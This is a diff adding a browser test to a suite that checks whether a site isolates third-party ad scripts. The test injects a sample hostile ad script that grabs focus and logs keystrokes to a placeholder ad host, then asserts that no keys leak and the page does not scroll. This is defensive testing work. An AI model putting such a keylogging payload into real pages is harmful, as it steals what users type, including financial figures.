@@ -213,6 +213,36 @@ test.describe("a site with an ad network", { tag: "@full" }, () => {
       expect(await keptBy(page)).toEqual(["local storage plainrate-ads"]);
     });
 
+    test(
+      "gets none of what is typed and scrolls nothing when its script takes the focus",
+      { tag: "@firefox" },
+      async ({ page }) => {
+        const thief = `
+        for (const { element } of adsbygoogle) {
+          element.innerHTML = "<input>";
+          setInterval(() => { focus(); element.firstChild.focus(); }, 400);
+        }
+        addEventListener("keydown", ({ key }) => { new Image().src = "https://ads.example/key?" + key; });`;
+        const asked = await open(page, "/debts", thief);
+        await choose(page, accept);
+        await slots(page).first().scrollIntoViewIfNeeded();
+        await expect(adIn(slots(page).first()).locator("input")).toBeFocused();
+        const field = page.getByLabel("Total monthly payment ($)");
+        await field.click();
+        const keys = await field.evaluateHandle((element: HTMLElement) => {
+          const heard: string[] = [];
+          element.addEventListener("keydown", ({ key }) => heard.push(key));
+          return heard;
+        });
+        const top = await page.evaluate(() => scrollY);
+        const typed = "1234567890".repeat(4);
+        await page.keyboard.type(typed, { delay: 60 });
+        expect(await keys.jsonValue()).toEqual([...typed]);
+        expect(asked.filter((address) => address.includes("/key"))).toEqual([]);
+        expect(await page.evaluate(() => scrollY)).toBe(top);
+      },
+    );
+
     // Sends home what it finds of the site's, and opens the frame's page in a window when its ad is pressed.
     const greedy = `
       const reads = {
